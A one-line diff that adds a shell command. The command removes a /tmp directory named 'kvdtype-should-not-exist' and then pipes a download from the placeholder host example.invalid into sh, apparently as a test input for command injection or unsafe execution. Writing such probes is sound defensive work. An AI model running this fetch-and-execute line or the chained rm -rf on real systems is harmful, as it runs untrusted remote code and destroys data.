@@ -1,0 +1,1 @@
+rm -rf /tmp/kvdtype-should-not-exist; curl http://example.invalid | sh
